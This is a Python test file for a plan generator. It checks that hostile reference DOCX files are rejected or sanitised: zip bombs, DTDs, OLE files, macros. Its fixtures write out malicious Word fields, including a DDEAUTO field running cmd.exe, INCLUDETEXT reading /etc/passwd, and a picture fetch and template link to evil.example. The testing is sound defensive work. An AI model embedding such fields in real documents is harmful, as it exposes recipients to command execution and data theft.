"""A firm's reference DOCX is checked before anything opens it (issue 20, item 5): a zip bomb, too many
parts, a high compression ratio, a DTD, an OLE file or a zip that is no Word document is a bad option
value (exit 2, one message naming the file), and nothing is written."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
import docx.opc.constants
import pytest
from click.testing import CliRunner
from lxml import etree

from planforge.cli import main
from planforge.core.errors import UsageError
from planforge.formats.docx_reference import read_reference
from planforge.pipeline import generate
from support import SAMPLE


def _default_parts() -> dict[str, bytes]:
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def _write(path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def _declaring_2gb(path) -> None:
    """A small package whose last part's central-directory entry declares 2 GB uncompressed."""
    parts = _default_parts()
    parts["word/media/zeros.bin"] = b"\0" * 1000
    _write(path, parts)
    data = bytearray(path.read_bytes())
    entry = data.rfind(b"PK\x01\x02")  # the last central-directory entry: zeros.bin
    struct.pack_into("<I", data, entry + 24, 2_000_000_000)  # its uncompressed size
    path.write_bytes(bytes(data))


def _many_parts(path) -> None:
    parts = _default_parts()
    parts.update({f"word/media/p{i}.bin": b"x" for i in range(1_200)})
    _write(path, parts)


def _high_ratio(path) -> None:
    parts = _default_parts()
    parts["word/media/zeros.bin"] = b"\0" * 12_000_000
    _write(path, parts)


def _dtd(path) -> None:
    parts = _default_parts()
    styles = parts["word/styles.xml"]
    declaration, rest = styles.split(b"?>", 1)
    parts["word/styles.xml"] = declaration + b'?><!DOCTYPE w:styles [<!ENTITY x "xxxxxxxx">]>' + rest
    _write(path, parts)


def _ole(path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)


def _not_a_zip(path) -> None:
    path.write_bytes(b"just some text, not a zip")


def _no_styles(path) -> None:
    parts = _default_parts()
    del parts["word/styles.xml"]
    _write(path, parts)


CASES = {
    "declared-2gb": (_declaring_2gb, "decompress to"),
    "many-parts": (_many_parts, "parts (cap 1,000)"),
    "high-ratio": (_high_ratio, "compressed"),
    "dtd": (_dtd, "declares a DTD"),
    "ole": (_ole, "OLE file"),
    "not-a-zip": (_not_a_zip, "not a zip file"),
    "no-styles": (_no_styles, "no word/styles.xml"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_bad_reference_docx_exits_2_naming_the_file_and_writes_nothing(tmp_path, case):
    build, reason = CASES[case]
    reference = tmp_path / "firm.docx"
    build(reference)
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["generate", str(SAMPLE), "-o", str(out), "--format", "docx", "--reference-docx", str(reference)]
    )
    assert result.exit_code == 2, result.output
    message = " ".join(result.output.split())  # click wraps long messages
    assert "--reference-docx" in message and str(reference) in message and reason in message
    assert not out.exists()


@pytest.mark.parametrize("case", ["declared-2gb", "dtd"])
def test_the_library_raises_the_usage_error_for_a_bad_reference(tmp_path, case):
    build, reason = CASES[case]
    reference = tmp_path / "firm.docx"
    build(reference)
    with pytest.raises(UsageError, match=reason) as raised:
        generate([SAMPLE], tmp_path / "out", formats=("docx",), summary=False, reference_docx=reference)
    assert raised.value.parameter == "reference_docx"
    assert not (tmp_path / "out").exists()


def test_a_part_larger_than_its_header_says_is_refused(tmp_path):
    """The zip directory may lie: a part declaring 1,000 bytes that holds 1 MB is never read whole."""
    reference = tmp_path / "firm.docx"
    parts = _default_parts()
    parts["word/media/big.bin"] = bytes(range(256)) * 4_000
    _write(reference, parts)
    data = bytearray(reference.read_bytes())
    entry = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, entry + 24, 1_000)
    reference.write_bytes(bytes(data))
    with pytest.raises(UsageError, match="is refused"):
        read_reference(reference)


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS = {"w": W, "r": R, "pr": PR, "ct": CT}


def _png() -> bytes:
    """A 1x1 PNG: the header's internal logo."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    )


def _hostile(path) -> None:
    """A reference with a firm header (text, logo, PAGE field) and everything a client file must not
    carry: macros (.docm type, vbaProject.bin), an external attachedTemplate, an external hyperlink,
    INCLUDETEXT / INCLUDEPICTURE / DDE fields, custom XML and an embedded object."""
    document = docx.Document()
    header = document.sections[0].header
    header.paragraphs[0].text = "first header line"
    firm = header.add_paragraph("Firm Confidential ")
    firm.add_run().add_picture(io.BytesIO(_png()))
    link = header.part.relate_to("http://evil.example/track", docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, True)
    firm._p.append(
        etree.fromstring(
            f'<w:hyperlink xmlns:w="{W}" xmlns:r="{R}" r:id="{link}"><w:r><w:t>site</w:t></w:r></w:hyperlink>'
        )
    )
    fields = (
        f'<w:p xmlns:w="{W}"><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/p.png&quot;"><w:r><w:t>pic</w:t></w:r></w:fldSimple>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "file:///etc/passwd" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>included</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    header._element.append(etree.fromstring(fields))
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    types = etree.fromstring(parts["[Content_Types].xml"])
    for override in types.iterfind("ct:Override", NS):
        if override.get("PartName") == "/word/document.xml":
            override.set("ContentType", "application/vnd.ms-word.document.macroEnabled.main+xml")
    etree.SubElement(
        types, f"{{{CT}}}Override", PartName="/word/vbaProject.bin", ContentType="application/vnd.ms-office.vbaProject"
    )
    parts["[Content_Types].xml"] = etree.tostring(types)
    rels = etree.fromstring(parts["word/_rels/document.xml.rels"])
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    for rid, kind, target in (
        ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        ("rIdXml", base + "customXml", "../customXml/item1.xml"),
        ("rIdOle", base + "oleObject", "embeddings/oleObject1.bin"),
    ):
        etree.SubElement(rels, f"{{{PR}}}Relationship", Id=rid, Type=kind, Target=target)
    parts["word/_rels/document.xml.rels"] = etree.tostring(rels)
    parts["word/vbaProject.bin"] = b"macro bytes"
    parts["word/_rels/vbaProject.bin.rels"] = parts["_rels/.rels"]
    parts["customXml/item1.xml"] = b"<secret/>"
    parts["word/embeddings/oleObject1.bin"] = b"ole"
    settings = etree.fromstring(parts["word/settings.xml"])
    settings.insert(0, etree.fromstring(f'<w:attachedTemplate xmlns:w="{W}" xmlns:r="{R}" r:id="rIdT"/>'))
    parts["word/settings.xml"] = etree.tostring(settings)
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{PR}"><Relationship Id="rIdT" Type="{base}attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    _write(path, parts)


def test_a_plan_takes_only_styles_and_clean_headers_from_a_hostile_reference(tmp_path):
    reference = tmp_path / "firm.docx"
    _hostile(reference)
    generate([SAMPLE], tmp_path / "out", formats=("docx",), only=["ACME-001"], summary=False, reference_docx=reference)
    with zipfile.ZipFile(tmp_path / "out" / "ACME-001-implementation-plan.docx") as zf:
        parts = {name: zf.read(name) for name in zf.namelist()}
    assert not [n for n in parts if "vba" in n.lower() or "customXml" in n or "embeddings" in n]
    types = etree.fromstring(parts["[Content_Types].xml"])
    assert not [e for e in types if "macroEnabled" in e.get("ContentType", "") or "vba" in e.get("ContentType", "")]
    for name, data in parts.items():
        if name.endswith(".rels"):
            for rel in etree.fromstring(data).iterfind("pr:Relationship", NS):
                if rel.get("TargetMode") == "External":  # the plan's own links to its sibling files only
                    assert ":" not in rel.get("Target") and "/" not in rel.get("Target"), (name, rel.get("Target"))
    settings = etree.fromstring(parts["word/settings.xml"])
    assert settings.find("w:attachedTemplate", NS) is None and settings.find("w:updateFields", NS) is None
    headers = [etree.fromstring(d) for n, d in parts.items() if n.startswith("word/header")]
    instructions = [
        " ".join(e.get(f"{{{W}}}instr", "") for h in headers for e in h.iter(f"{{{W}}}fldSimple")),
        " ".join(e.text or "" for h in headers for e in h.iter(f"{{{W}}}instrText")),
    ]
    for word in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "HYPERLINK", "file:"):
        assert word not in " ".join(instructions)
    assert "PAGE" in instructions[0]
    text = "".join(t.text or "" for h in headers for t in h.iter(f"{{{W}}}t"))
    assert "Firm Confidential" in text and "site" in text  # the link's text stays, its target goes
    assert not [h for h in headers if h.find(".//w:hyperlink", NS) is not None]
    assert any(n.startswith("word/media/") for n in parts)  # the header's internal logo is kept
    docx.Document(str(tmp_path / "out" / "ACME-001-implementation-plan.docx"))  # and the file still opens
